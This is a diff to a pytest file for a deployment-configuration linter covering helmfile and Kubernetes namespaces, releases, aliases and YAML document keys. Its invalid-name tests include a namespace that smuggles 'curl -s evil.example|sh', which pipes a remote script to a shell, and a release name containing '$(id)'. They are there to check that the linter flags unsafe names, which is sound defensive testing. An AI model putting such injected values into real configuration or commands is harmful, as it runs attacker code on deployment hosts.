@@ -123,11 +123,52 @@ CASES = [
                               "                production: {}\n", ""),
                              ("        eqiad:\n          CANARY:\n            - manual: "
                               "\"Do the canary's error graphs look normal?\"\n", "")),
-     [("MW609", 39, 5), ("MW610", 39, 5)]),
-    ("610 (and so the CANARY check deploys nothing)",
+     [("MW609", 39, 5)]),  # MW610 narrowed: CANARY unused by the service is no finding
+    ("610 narrowed: no stage used at all is silent (and so the CANARY check deploys nothing)",
      mut(("                  stage: CANARY", "                  stage: DEFAULT"),
          ("                  stage: CANARY", "                  stage: DEFAULT")),
-     [("MW610", 62, 5), ("MW607", 80, 11)]),
+     [("MW607", 80, 11)]),
+    ("610 canary in eqiad, none in codfw",
+     mut(("            codfw:\n              releases:\n                canary: {stage: CANARY}\n",
+          "            codfw:\n              releases:\n")),
+     [("MW610", 50, 13)]),
+    # -- scap refuses these shapes (issue 20 item 11): fixed cases ---------------------
+    ("603 services: {}", GROUPS_TEXT + CATALOG_KEY + ":\n  services: {}\n",
+     [("MW603", 38, 13)]),
+    ("603 namespaces: {}", mut(("      namespaces:\n        superset:\n          environments:\n"
+                                "            # No `releases`: every release the environment "
+                                "installs.\n            dse-k8s-eqiad: {}\n",
+                                "      namespaces: {}\n")),
+     [("MW603", 90, 19)]),
+    ("603 environment_stages: []", mut(("[CANARY, DEFAULT]", "[]")),
+     [("MW603", 25, 25)]),
+    ("603 an integer datacenter", mut(("        datacenter: codfw\n        type: STAGING",
+                                       "        datacenter: 3\n        type: STAGING")),
+     [("MW603", 13, 21)]),
+    ("603 namespace environments: {}",
+     mut(("          environments:\n            # No `releases`: every release the environment "
+          "installs.\n            dse-k8s-eqiad: {}\n", "          environments: {}\n")),
+     [("MW603", 92, 25)]),
+    ("603 a cluster group name that is a number", GROUPS_TEXT.replace("  dse-k8s:\n", "  7:\n"),
+     [("MW603", 27, 3)]),
+    # -- MW605 as scap counts references (deploy-service.md §2.1) ----------------------
+    ("605 an alias equal to its own environment's name",
+     mut(("aliases: [staging]", "aliases: [staging, staging-eqiad]")), [("MW605", 18, 28)]),
+    ("605 an alias listed twice", mut(("aliases: [staging]", "aliases: [staging, staging]")),
+     [("MW605", 18, 28)]),
+    # -- quiet when another fired ------------------------------------------------------
+    ("604 lower-case type in a staging-only service: no MW609 beside it",
+     mut(("            eqiad:\n              releases:\n"
+          "                canary: {stage: CANARY}\n"
+          "                production: {}\n"
+          "            codfw:\n              releases:\n"
+          "                canary: {stage: CANARY}\n"
+          "                production: {}\n", ""),
+         ("        eqiad:\n          CANARY:\n            - manual: "
+          "\"Do the canary's error graphs look normal?\"\n", ""),
+         ("        datacenter: eqiad\n        type: STAGING", "        datacenter: eqiad\n"
+                                                              "        type: staging")),
+     [("MW604", 17, 15)]),
     ("611", mut(('                - "curl -sSf https://shellbox.svc.eqiad.wmnet:4008/healthz"\n',
                  '                - "curl -sSf https://shellbox.svc.eqiad.wmnet:4008/healthz"\n'
                  '                - "curl -sSf https://shellbox.svc.eqiad.wmnet:4008/healthz"\n')),
@@ -290,7 +331,9 @@ def test_mw612_messages_say_what_the_helmfile_has():
     assert "it has codfw, eqiad, staging" in f.help and "use 'staging'" in f.help
     f = lint(mut((STAGING_REF, "            staging: {releases: {canary: {}}}\n"
                                "            eqiad:")), deployment_charts=CHARTS)[-1]
-    assert f.message == "'staging' does not install 'canary' (it installs production)"
+    assert f.message == ("namespace 'eventstreams': 'staging' does not install 'canary' (it "
+                         "installs production)")
+    assert "helmfile.d/services/eventstreams/helmfile.yaml" in f.help
     f = lint(mut(("canary: {stage: CANARY}", "canery: {stage: CANARY}")),
              deployment_charts=CHARTS)[-1]
     assert "did you mean 'canary'?" in f.message
@@ -336,3 +379,66 @@ def test_mw612_directory_without_helmfile(tmp_path):
 def test_a_deploy_service_key_set_twice_is_mw002():
     found = lint(GROUPS + GROUPS.split("\n", 7)[7])  # the cluster_groups key again
     assert ("MW002", 8, 1) in triples(found, "MW002")
+
+
+# -- MW614: names Kubernetes, Helm or helmfile cannot have -------------------------------
+
+NAME_CASES = [
+    ("namespace with shell", ("        shellbox:\n          environments:",
+                              '        "x; curl -s evil.example|sh; cd .":\n'
+                              "          environments:"), [("MW614", 65, 9)]),
+    ("namespace upper case", ("        superset:\n", "        SuperSet:\n"), [("MW614", 91, 9)]),
+    ("namespace of 64 characters", ("        superset:\n", "        " + "s" * 64 + ":\n"),
+     [("MW614", 91, 9)]),
+    ("release with $(id)", ("                main: {}\n            eqiad:",
+                            '                "main $(id)": {}\n            eqiad:'),
+     [("MW614", 72, 17)]),
+    ("environment with a space", ("      dse-k8s-eqiad:\n        datacenter: eqiad",
+                                  '      "dse k8s":\n        datacenter: eqiad'),
+     [("MW614", 30, 7), ("MW606", 94, 13), ("MW606", 96, 9)]),
+    ("alias with a slash", ("aliases: [staging]", "aliases: [staging, a/b]"),
+     [("MW614", 18, 28)]),
+    ("namespace with a dot", ("        superset:\n", "        superset-2.x:\n"), [("MW614", 91, 9)]),
+]
+
+
+@pytest.mark.parametrize("pair,expected", [c[1:] for c in NAME_CASES],
+                         ids=[c[0] for c in NAME_CASES])
+def test_mw614_invalid_names(pair, expected):
+    found = lint(mut(pair))
+    assert triples(found, "MW6") == expected
+    for f in found:
+        if f.code == "MW614":
+            assert f.severity == "warning" and len(f.message) <= 120, f.message
+
+
+def test_mw614_a_long_name_is_clipped():
+    found = lint(mut(("        superset:\n          environments:",
+                      "        ? " + "a" * 1_000_000 + "\n        : environments:")))
+    (f,) = [f for f in found if f.code == "MW614"]
+    assert len(f.message) < 120 and "1,000,000 characters" in f.message
+    assert len(f.yaml_path) < 400
+
+
+# -- MW006: a family's key in a later YAML document ---------------------------------
+
+DOC_CASES = [
+    ("both keys in document 2", "a: 1\n---\n" + BASE, [("MW006", 10, 1), ("MW006", 39, 1)]),
+    ("the catalog in document 3", GROUPS_TEXT + "---\nb: 2\n---\n" + CATALOG_TEXT,
+     [("MW006", 40, 1)]),
+    ("a start marker only: one document", "---\n" + BASE, []),
+    ("a MediaWiki deployments key in document 2 (hiera never reads it either)",
+     "a: 1\n---\nprofile::kubernetes::deployment_server::mediawiki::release::mw_deployments:"
+     " {}\n", [("MW006", 3, 1)]),
+    ("a marker inside a block scalar is no document", "note: |\n  x\n  ---\n  y\n" + BASE, []),
+]
+
+
+@pytest.mark.parametrize("doc,expected", [c[1:] for c in DOC_CASES],
+                         ids=[c[0] for c in DOC_CASES])
+def test_mw615_key_in_a_later_document(doc, expected):
+    found = lint(doc)
+    assert triples(found, "MW006") == expected
+    for f in found:
+        if f.code == "MW006":
+            assert f.severity == "error" and "hiera never reads" in f.message
